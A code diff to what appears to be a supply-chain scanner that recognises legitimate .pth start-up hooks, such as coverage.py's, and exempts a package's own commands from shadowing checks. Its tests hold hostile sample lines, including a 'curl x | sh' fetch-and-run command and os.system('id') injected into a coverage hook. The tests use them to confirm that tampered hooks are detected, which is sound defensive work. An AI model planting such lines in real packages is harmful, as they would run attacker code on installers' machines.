@@ -330,7 +330,7 @@ fn npm(files: &Files<'_>, s: &mut Surface) {
 }
 
 fn bin_item(name: &str, path: &str, file: &str, s: &mut Surface) {
-    let shadows = SHADOWED_COMMANDS.contains(&name);
+    let shadows = SHADOWED_COMMANDS.contains(&name) && !own_command(name, s.name.as_deref());
     s.items.push(item(
         if shadows {
             "bin-shadows-command"
@@ -562,6 +562,29 @@ fn shell_words(s: &str) -> Vec<String> {
     out
 }
 
+/// coverage.py's start-up hook, in the forms its releases have shipped: it
+/// only imports coverage when the environment asks for it.
+static COVERAGE_PTH: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(concat!(
+        r#"^(import coverage; ?coverage\.process_startup\(\)"#,
+        r#"|import sys; exec\('import os\\n\\nif os\.getenv\("COVERAGE_PROCESS_START"\)"#,
+        r#"( or os\.getenv\("COVERAGE_PROCESS_CONFIG"\))?:\\n try:\\n  import coverage\\n"#,
+        r#" except:\\n  pass\\n else:\\n  coverage\.process_startup\((slug="pth")?\)'\))$"#,
+    ))
+    .unwrap_or_else(|_| unreachable!())
+});
+
+/// Whether a command named `command` is simply the package's own command
+/// (`pip` and `pip3` from pip, `virtualenv` from virtualenv): not shadowing.
+fn own_command(command: &str, package: Option<&str>) -> bool {
+    let Some(package) = package else { return false };
+    let norm = |s: &str| s.to_ascii_lowercase().replace(['_', '.'], "-");
+    let package = norm(package.rsplit('/').next().unwrap_or(package));
+    let command = norm(command);
+    let base = command.trim_end_matches(|c: char| c.is_ascii_digit() || c == '-');
+    command == package || base == package
+}
+
 /// Recognises the legitimate `.pth` start-up hooks that ship with common
 /// tools, by content.
 pub fn known_pth(path: &str, line: &str) -> Option<&'static str> {
@@ -581,9 +604,7 @@ pub fn known_pth(path: &str, line: &str) -> Option<&'static str> {
         .is_ok_and(|r| r.is_match(l))
     {
         Some("editable-finder")
-    } else if l == "import coverage; coverage.process_startup()"
-        || l == "import coverage;coverage.process_startup()"
-    {
+    } else if COVERAGE_PTH.is_match(l) {
         Some("coverage-startup")
     } else {
         None
@@ -749,7 +770,7 @@ fn entry_points(file: &str, text: &str, s: &mut Surface) {
             continue;
         };
         let (name, target) = (name.trim(), target.trim());
-        let shadows = SHADOWED_COMMANDS.contains(&name);
+        let shadows = SHADOWED_COMMANDS.contains(&name) && !own_command(name, s.name.as_deref());
         s.items.push(item(
             if shadows {
                 "entry-point-shadows-command"
@@ -1062,11 +1083,29 @@ mod tests {
             known_pth("evil.pth", "import os; os.system('curl x | sh')"),
             None
         );
+        let coverage = r#"import sys; exec('import os\n\nif os.getenv("COVERAGE_PROCESS_START") or os.getenv("COVERAGE_PROCESS_CONFIG"):\n try:\n  import coverage\n except:\n  pass\n else:\n  coverage.process_startup(slug="pth")')"#;
+        assert_eq!(
+            known_pth("a1_coverage.pth", coverage),
+            Some("coverage-startup")
+        );
+        let tampered = coverage.replace("import coverage", "import os; os.system('id')");
+        assert_eq!(known_pth("a1_coverage.pth", &tampered), None);
         // The right name with other code is not the known hook.
         assert_eq!(
             known_pth("distutils-precedence.pth", "import os; os.system('id')"),
             None
         );
+    }
+
+    #[test]
+    fn a_package_may_install_its_own_command() {
+        assert!(own_command("pip", Some("pip")));
+        assert!(own_command("pip3", Some("pip")));
+        assert!(own_command("pip3.11", Some("pip")));
+        assert!(own_command("virtualenv", Some("virtualenv")));
+        assert!(!own_command("pip", Some("pip-helper")));
+        assert!(!own_command("pip", None));
+        assert!(own_command("npm", Some("npm")));
     }
 
     #[test]
